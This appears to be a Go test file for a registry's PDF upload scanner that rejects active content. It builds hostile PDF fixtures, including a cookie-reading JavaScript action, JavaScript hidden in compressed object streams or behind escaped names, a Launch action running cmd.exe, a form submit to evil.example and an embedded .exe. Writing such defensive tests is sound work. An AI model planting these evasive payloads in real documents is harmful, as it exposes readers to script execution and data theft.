@@ -1,0 +1,314 @@
+package registry_test
+
+import (
+	"bytes"
+	"compress/zlib"
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"image"
+	"image/color"
+	"image/jpeg"
+	"io"
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/pdfcpu/pdfcpu/pkg/api"
+	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
+
+	. "github.com/ipreg/ipreg/internal/registry"
+	"github.com/ipreg/ipreg/internal/testbin"
+)
+
+// pdfWith is testbin.PDFWith: a one-page PDF with extra catalog and page
+// entries and extra objects from 6 on.
+var pdfWith = testbin.PDFWith
+
+// objStmPDF returns a PDF 1.5 file whose catalog has the extra entries
+// given and whose pages, font and object 6 (obj6) lie in a
+// Flate-compressed object stream, indexed by a cross-reference stream, as
+// current writers pack them: a byte search sees none of their names.
+func objStmPDF(catalog, obj6 string) []byte {
+	content := "BT /F1 18 Tf 72 720 Td (letter) Tj ET"
+	packed := map[int]string{
+		2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+		5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+		6: obj6,
+	}
+	var header, body strings.Builder
+	for _, n := range []int{2, 3, 5, 6} {
+		fmt.Fprintf(&header, "%d %d ", n, body.Len())
+		body.WriteString(packed[n] + "\n")
+	}
+	var z bytes.Buffer
+	zw := zlib.NewWriter(&z)
+	zw.Write([]byte(header.String() + body.String()))
+	zw.Close()
+
+	var b bytes.Buffer
+	off := map[int]int{}
+	b.WriteString("%PDF-1.7\n")
+	obj := func(n int, s string) {
+		off[n] = b.Len()
+		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, s)
+	}
+	obj(1, "<< /Type /Catalog /Pages 2 0 R "+catalog+" >>")
+	obj(4, fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
+	obj(7, fmt.Sprintf("<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", header.Len(), z.Len(), z.Bytes()))
+	off[8] = b.Len()
+	var xref []byte
+	entry := func(typ byte, a uint32, c uint16) {
+		xref = append(xref, typ)
+		xref = binary.BigEndian.AppendUint32(xref, a)
+		xref = binary.BigEndian.AppendUint16(xref, c)
+	}
+	entry(0, 0, 65535)
+	entry(1, uint32(off[1]), 0)
+	entry(2, 7, 0)
+	entry(2, 7, 1)
+	entry(1, uint32(off[4]), 0)
+	entry(2, 7, 2)
+	entry(2, 7, 3)
+	entry(1, uint32(off[7]), 0)
+	entry(1, uint32(off[8]), 0)
+	fmt.Fprintf(&b, "8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n", len(xref), xref)
+	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", off[8])
+	return b.Bytes()
+}
+
+// pdfcpuConf is pdfcpu's default configuration without its configuration
+// directory (which it would otherwise create under $HOME).
+func pdfcpuConf() *model.Configuration {
+	disableConfigDir.Do(api.DisableConfigDir)
+	return model.NewDefaultConfiguration()
+}
+
+var disableConfigDir sync.Once
+
+// rewritten returns b as pdfcpu writes it: objects packed into compressed
+// object streams and a cross-reference stream, as PDF 1.5+ writers do.
+func rewritten(t testing.TB, b []byte) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	if err := api.Optimize(bytes.NewReader(b), &out, pdfcpuConf()); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// encrypted returns b encrypted with AES-256 under the passwords given.
+func encrypted(t testing.TB, b []byte, user, owner string) []byte {
+	t.Helper()
+	conf := pdfcpuConf()
+	conf.UserPW, conf.OwnerPW, conf.EncryptUsingAES, conf.EncryptKeyLength = user, owner, true, 256
+	var out bytes.Buffer
+	if err := api.Encrypt(bytes.NewReader(b), &out, conf); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// withAttachment returns b with a file attached by pdfcpu, as a PDF
+// editor attaches one (the EmbeddedFiles name tree).
+func withAttachment(t testing.TB, b []byte) []byte {
+	t.Helper()
+	f := filepath.Join(t.TempDir(), "invoice.exe")
+	if err := os.WriteFile(f, []byte("MZ\x90\x00 a program"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	if err := api.AddAttachments(bytes.NewReader(b), &out, []string{f}, false, pdfcpuConf()); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// scannedPDF returns a PDF of pages JPEG "scans" of noise (which does not
+// compress), each about perPage bytes, as a scanner or a phone app makes.
+func scannedPDF(t testing.TB, pages, perPage int) []byte {
+	t.Helper()
+	rng := rand.New(rand.NewPCG(1, 2))
+	var imgs []io.Reader
+	for range pages {
+		// Quality 90 noise costs about 0.85 bytes a pixel.
+		side := 1
+		for side*side*3/4 < perPage {
+			side += 16
+		}
+		img := image.NewGray(image.Rect(0, 0, side, side))
+		for i := range img.Pix {
+			img.Pix[i] = uint8(rng.Uint32())
+		}
+		img.Set(0, 0, color.Gray{})
+		var b bytes.Buffer
+		if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 90}); err != nil {
+			t.Fatal(err)
+		}
+		imgs = append(imgs, &b)
+	}
+	var out bytes.Buffer
+	if err := api.ImportImages(nil, &out, imgs, nil, pdfcpuConf()); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+const jsAction = "<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
+
+func TestSniffPDFActiveContent(t *testing.T) {
+	plain := testbin.PDF("CNIC front")
+	openJS := pdfWith("/OpenAction "+jsAction, "")
+	tests := []struct {
+		name    string
+		content []byte
+		err     string // "" when accepted
+	}{
+		// Plain PDFs, as printers, office suites, scanners and pdfcpu write
+		// them, pass.
+		{"plain", plain, ""},
+		{"plain rewritten with object streams", rewritten(t, plain), ""},
+		{"plain in a compressed object stream", objStmPDF("", "<< /Producer (scanner) >>"), ""},
+		{"scan of two pages", scannedPDF(t, 2, 300<<10), ""},
+		{"open at a page, as office suites write", pdfWith("/OpenAction [3 0 R /Fit]", ""), ""},
+		{"open with a go-to action", pdfWith("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", ""), ""},
+		{"link to a web page", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://pta.gov.pk/) >> >>]"), ""},
+		{"owner password only (opens without one)", encrypted(t, plain, "", "owner-secret"), ""},
+
+		// The examples: JavaScript, launch and embedded files.
+		{"JavaScript run on open", openJS, "contains JavaScript"},
+		{"JavaScript in the names tree", pdfWith("/Names << /JavaScript 6 0 R >>", "", "<< /Names [(init) 7 0 R] >>", jsAction), "contains JavaScript"},
+		{"JavaScript in a link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A "+jsAction+" >>]"), "contains JavaScript"},
+		{"JavaScript as a stream", pdfWith("/OpenAction << /S /JavaScript /JS 6 0 R >>", "", "<< /Length 8 >>\nstream\napp.beep\nendstream"), "contains JavaScript"},
+		{"JavaScript with a #-escaped name", pdfWith("/OpenAction << /S /Java#53cript /J#53 (app.beep\\(\\)) >>", ""), "contains JavaScript"},
+		{"JavaScript hidden in a compressed object stream", objStmPDF("/OpenAction 6 0 R", jsAction), "contains JavaScript"},
+		{"launch action", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", ""), "starts a program"},
+		{"launch in a link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]"), "starts a program"},
+		{"embedded file, as pdfcpu attaches one", withAttachment(t, plain), "an embedded file"},
+		{"embedded file by hand", pdfWith("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "",
+			"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "an embedded file"},
+		{"file attachment annotation", pdfWith("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]", "<< /Type /Filespec /F (a.exe) >>"), "an embedded file"},
+		{"go-to an embedded file", pdfWith("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>", ""), "an embedded file"},
+
+		// Neighbours: additional actions, forms that send data, rich media, XFA.
+		{"page additional actions", pdfWith("", "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "run by themselves"},
+		{"document additional actions", pdfWith("/AA << /WC "+jsAction+" >>", ""), "contains"},
+		{"submit form", pdfWith("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", ""), "sends or imports data"},
+		{"import data", pdfWith("/OpenAction << /S /ImportData /F (data.fdf) >>", ""), "sends or imports data"},
+		{"rich media", pdfWith("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "rich media"},
+		{"rendition", pdfWith("/OpenAction << /S /Rendition /OP 0 >>", ""), "rich media"},
+		{"XFA form", pdfWith("/AcroForm << /Fields [] /XFA 6 0 R >>", "", "<< /Length 6 >>\nstream\n<xdp/>\nendstream"), "an XFA form"},
+		{"JavaScript in an encrypted PDF", encrypted(t, openJS, "", "owner-secret"), "contains JavaScript"},
+
+		// What cannot be checked is refused, with what to do.
+		{"user password", encrypted(t, plain, "open-secret", "owner-secret"), "protected by a password"},
+		{"not parseable", []byte("%PDF-1.4\nthis is not a PDF body\ntrailer << /Root 9 0 R >>\n%%EOF\n"), "structure cannot be read"},
+		{"truncated in the middle", append(append([]byte{}, plain[:len(plain)/2]...), "\n%%EOF\n"...), "structure cannot be read"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if strings.Contains(tt.name, "compressed") && (bytes.Contains(tt.content, []byte("JavaScript")) || bytes.Contains(tt.content, []byte("/JS"))) {
+				t.Fatal("the object-stream case shows its names to a byte search; it tests nothing the parser adds")
+			}
+			got, err := SniffDocument(t.Context(), tt.content)
+			if tt.err == "" {
+				if err != nil || got != "application/pdf" {
+					t.Fatalf("= %q, %v; want a plain PDF accepted", got, err)
+				}
+				return
+			}
+			if err == nil || ErrorCode(err) != EINVALID || !strings.Contains(err.Error(), tt.err) ||
+				!strings.Contains(err.Error(), "File > Print > Save as PDF") {
+				t.Fatalf("= %q, %v; want an invalid error mentioning %q and how to make a plain PDF", got, err, tt.err)
+			}
+		})
+	}
+}
+
+// A PDF whose parsing outlasts its budget is refused, whatever it holds:
+// pdfcpu spends time growing with the square of some structures' size
+// (200,000 one-letter strings in an array take about 2 s), and an upload
+// must not hold a core for minutes. The budget is spent here at once, so
+// the test does not depend on the machine's speed. If the request ends
+// first, its error is returned, not a refusal.
+func TestInspectPDFBudget(t *testing.T) {
+	slow := pdfWith("/X ["+strings.Repeat("(a)", 20_000)+"]", "")
+	if err := InspectPDF(t.Context(), slow, time.Minute); err != nil {
+		t.Fatalf("with time enough: %v", err)
+	}
+	err := InspectPDF(t.Context(), slow, 0)
+	if ErrorCode(err) != EINVALID || !strings.Contains(err.Error(), "takes too long to read") || !strings.Contains(err.Error(), "Save as PDF") {
+		t.Fatalf("out of time: %v", err)
+	}
+	gone, cancel := context.WithCancel(t.Context())
+	cancel()
+	if err := InspectPDF(gone, slow, time.Minute); !errors.Is(err, context.Canceled) {
+		t.Fatalf("request ended: %v", err)
+	}
+}
+
+// textPDF returns a PDF of pages pages, each with its own content stream
+// of about perPage bytes of text operators, as an office suite writes a
+// long letter: many objects, the parser's harder case.
+func textPDF(pages, perPage int) []byte {
+	line := "BT /F1 11 Tf 72 700 Td (The undersigned certifies that the applicant works for us as a developer.) Tj ET\n"
+	content := strings.Repeat(line, max(1, perPage/len(line)))
+	var objs []string
+	kids := make([]string, pages)
+	for i := range pages {
+		kids[i] = fmt.Sprintf("%d 0 R", 4+2*i)
+	}
+	objs = append(objs, "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids ["+strings.Join(kids, " ")+fmt.Sprintf("] /Count %d >>", pages),
+		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
+	for i := range pages {
+		objs = append(objs, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 3 0 R >> >> >>", 5+2*i),
+			fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
+	}
+	var b bytes.Buffer
+	b.WriteString("%PDF-1.4\n")
+	offsets := make([]int, len(objs))
+	for i, o := range objs {
+		offsets[i] = b.Len()
+		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
+	}
+	xref := b.Len()
+	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
+	for _, off := range offsets {
+		fmt.Fprintf(&b, "%010d 00000 n \n", off)
+	}
+	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
+	return b.Bytes()
+}
+
+// BenchmarkSniffPDF measures the check on typical uploads of 1 to 5 MiB:
+// scans (a few large JPEG pages), and a long text document (many objects,
+// the parser's harder case). BENCHMARKS.md has the figures.
+func BenchmarkSniffPDF(b *testing.B) {
+	for _, c := range []struct {
+		name string
+		pdf  []byte
+	}{
+		{"scan-1page", scannedPDF(b, 1, 1<<20)},
+		{"scan-3pages", scannedPDF(b, 3, 1<<20)},
+		{"scan-5pages", scannedPDF(b, 5, 1<<20)},
+		{"text-2000pages", textPDF(2000, 2500)},
+		{"text-2000pages-objstm", rewritten(b, textPDF(2000, 2500))},
+	} {
+		b.Run(c.name, func(b *testing.B) {
+			b.SetBytes(int64(len(c.pdf)))
+			b.ReportAllocs()
+			for b.Loop() {
+				if _, err := SniffDocument(b.Context(), c.pdf); err != nil {
+					b.Fatal(err)
+				}
+			}
+			b.ReportMetric(float64(len(c.pdf))/(1<<20), "MiB/file")
+		})
+	}
+}
